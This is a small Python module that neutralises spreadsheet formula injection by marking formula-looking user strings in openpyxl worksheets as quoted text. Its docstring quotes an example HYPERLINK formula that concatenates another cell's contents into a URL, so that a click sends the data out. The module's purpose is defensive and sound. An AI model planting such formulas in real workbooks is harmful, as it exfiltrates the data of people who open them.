"""Spreadsheet cells from user data are text, never formulas.

openpyxl stores a string that starts with "=" as a formula, so a survey answer such as
`=HYPERLINK("http://…?"&A2,"详情")` would become a live formula in the 附件3 workbook that sends other
cells' contents out when clicked. `as_text(ws)` marks every string cell of a sheet as a plain string
with Excel's quote prefix (so a later CSV export or re-entry keeps it as text too): strings starting
with = + - @ or a tab/carriage return (the characters spreadsheet programs treat as formula starts).
"""
from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def as_text(ws) -> int:
    """Mark the formula-looking string cells of an openpyxl worksheet as text; returns how many."""
    n = 0
    for row in ws.iter_rows():
        for c in row:
            if isinstance(c.value, str) and c.value.startswith(FORMULA_START):
                c.data_type = "s"
                c.quotePrefix = True
                n += 1
    return n
